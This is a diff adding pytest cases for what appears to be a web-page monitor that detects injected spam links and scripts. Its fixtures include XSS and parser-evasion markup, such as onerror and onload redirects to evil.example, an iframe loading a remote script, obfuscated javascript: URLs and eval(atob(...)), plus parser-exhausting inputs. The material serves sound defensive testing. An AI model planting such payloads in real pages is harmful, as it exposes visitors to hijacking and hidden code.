@@ -117,6 +117,86 @@ def test_what_runs_or_takes_what_visitors_write_is_told_at_once(watched: Watched
     assert "T1189" in found[0].facts["attack"]  # type: ignore[operator]
 
 
+@pytest.mark.parametrize(
+    "markup",
+    [
+        f"<!-->{DARK}<!-- -->",
+        f"<!--->{DARK}<!-- -->",
+        f"<!-- x --!>{DARK}<!-- -->",
+        f"</!<a title='>{DARK}'>",
+        f"<svg><title>{DARK}</title></svg>",
+        f"<svg><style>{DARK}</style></svg>",
+        f"<math><xmp>{DARK}</xmp></math>",
+        f"<svg><![CDATA[><a title=']]></svg>{DARK}'>",
+        f"<svg><p><style><a title='</style>{DARK}'>",
+        f"<svg><desc><style><a title='</style>{DARK}'>",
+        f"<svg/><style><a title='</style>{DARK}'>",
+        f"<svg></svg><style><a title='</style>{DARK}'>",
+        "<svg>" + DARK.replace("href", "xlink:href") + "</svg>",
+        f"<iframe srcdoc='{DARK}'></iframe>",
+        f"<iframe srcdoc='{'x ' * 8000}{DARK}'></iframe>",
+        f"<iframe srcdoc=\"<iframe srcdoc='{DARK.replace(chr(34), '&amp;quot;')}'>\"></iframe>",
+    ],
+)
+def test_a_link_is_read_where_browsers_read_one(watched: Watched, markup: str) -> None:
+    found = watched.shown(PAGE.replace("</body>", f"{markup}</body>"))
+
+    assert [finding.kind for finding in found] == ["page.new_link", "page.words"]
+    assert "bet.evil.example" in str(found[0].facts["links"])
+
+
+@pytest.mark.parametrize(
+    "markup",
+    [
+        f"<!--{DARK}-->",
+        f"<!-- <!-- {DARK} -- > -->",
+        f"<svg><title>x</title></svg><!-- {DARK} -->",
+        f"<svg><foreignObject><textarea></svg>{DARK.replace('百家乐 真人娱乐', '')}</textarea></foreignObject></svg>",
+        f"<svg><title>x</title><path d=''/></svg><style>{DARK}</style>",
+        "<a href=\"javascript:window.location.href='/news/more'\" onclick='location.replace(this.href)'>更多</a>",
+    ],
+)
+def test_no_link_is_read_where_browsers_read_none(watched: Watched, markup: str) -> None:
+    assert watched.kinds(PAGE.replace("</body>", f"{markup}</body>")) == []
+
+
+@pytest.mark.parametrize(
+    "markup",
+    [
+        "<img src=x onerror=\"location.replace('//evil.example/')\">",
+        "<iframe src=\"java&#10;script:top.location='%68ttps://evil.example/'\"></iframe>",
+        "<svg><script>top.location='https://evil.example/'</script></svg>",
+        "<svg onload=\"top.location='https://evil.example/'\"/>",
+        "<iframe srcdoc=\"<script src='https://evil.example/x.js'></script>\"></iframe>",
+    ],
+)
+def test_scripts_in_attributes_and_pictures_are_read(watched: Watched, markup: str) -> None:
+    found = watched.shown(PAGE.replace("</body>", f"{markup}</body>"))
+
+    assert (found[0].kind, found[0].severity) == ("page.new_link", Severity.HIGH)
+    assert "evil.example" in str(found[0].facts["links"])
+
+
+@pytest.mark.parametrize(
+    "markup",
+    [
+        "<a href=\"java&#10;script:top.location='https://evil.example/'\">x</a>",
+        "<p onclick=\"open('//evil.example/')\">x</p>",
+    ],
+)
+def test_where_a_click_leads_is_a_link(watched: Watched, markup: str) -> None:
+    (finding,) = watched.shown(PAGE.replace("</body>", f"{markup}</body>"))
+
+    assert (finding.kind, finding.severity) == ("page.new_link", Severity.LOW)
+    assert "evil.example" in str(finding.facts["links"])
+
+
+def test_a_script_in_an_attribute_that_runs_by_itself_is_told_for_what_it_does(watched: Watched) -> None:
+    markup = "<img src=x onerror=\"eval(atob('bG9jYXRpb24='))\">"
+
+    assert watched.kinds(PAGE.replace("</body>", f"{markup}</body>")) == ["page.new_script"]
+
+
 def test_a_packed_script_is_told_even_when_no_address_can_be_read_in_it(watched: Watched) -> None:
     script = "<script>eval(function(p,a,c,k,e,d){return p}('0 1',2,2))</script>"
 
@@ -309,6 +389,12 @@ def test_words_put_apart_are_found_and_news_about_them_that_were_accepted_are_no
         "<a " * 200_000,
         "<!--" * 200_000,
         "<![CDATA[" * 100_000,
+        "<svg>" + "<![CDATA[" * 100_000,
+        "<svg><title>" * 40_000 + "</svg>" * 20_000,
+        "<!----" + "--!" * 200_000,
+        "<!-- -->" * 50_000 + "--!>",
+        "<iframe srcdoc='" * 50_000,
+        "<a onclick='" + "eval ( " * 1_000 + "'>" * 10_000,
         '<a href="' * 100_000,
         "<div>" * 70_000,
         "<script>" * 100_000,
